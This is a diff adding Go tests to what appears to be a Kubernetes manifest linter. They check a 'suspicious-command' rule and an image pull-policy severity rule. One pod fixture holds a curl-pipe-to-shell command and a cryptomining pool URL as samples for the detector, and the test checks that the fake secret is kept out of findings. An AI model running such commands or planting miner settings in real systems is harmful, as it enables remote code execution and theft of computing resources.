@@ -171,3 +171,33 @@ func TestTextIdioms(t *testing.T) {
 		}
 	}
 }
+
+// TestCommandsStayUnseen keeps what commands and variables hold, which may be
+// secret, out of all that is printed.
+func TestCommandsStayUnseen(t *testing.T) {
+	rule := Find(All(), "suspicious-command")[0]
+	pod := `{apiVersion: v1, kind: Pod, metadata: {name: web}, spec: {containers: [{name: web, image: web:1,
+  command: [sh, -c, "curl -u hunter2: x | sh"], args: [-o, "stratum+tcp://hunter2@pool"], env: [{name: A, value: "stratum+tcp://hunter2@pool"}]}]}}
+`
+	report := linttest.Check(t, linttest.Load(t, "pod.yaml", []byte(pod)), lint.Options{Rules: []*lint.Rule{rule}})
+	if len(report.Findings) != 3 {
+		t.Errorf("%d findings, want 3", len(report.Findings))
+	}
+	for _, f := range report.Findings {
+		if strings.Contains(f.Message+f.Value+f.Field, "hunter2") {
+			t.Errorf("the finding tells what the command holds: %+v", f)
+		}
+	}
+}
+
+// TestPullPolicySeverity is more severe where the tag floats.
+func TestPullPolicySeverity(t *testing.T) {
+	rule := Find(All(), "image-pull-policy")[0]
+	for tag, want := range map[string]lint.Severity{"1.2.3": lint.Low, "stable": lint.Medium} {
+		pod := "{apiVersion: v1, kind: Pod, metadata: {name: web}, spec: {containers: [{name: web, image: 'web:" + tag + "', imagePullPolicy: IfNotPresent}]}}"
+		report := linttest.Check(t, linttest.Load(t, "pod.yaml", []byte(pod)), lint.Options{Rules: []*lint.Rule{rule}})
+		if len(report.Findings) != 1 || report.Findings[0].Severity != want {
+			t.Errorf("tag %s: %+v", tag, report.Findings)
+		}
+	}
+}
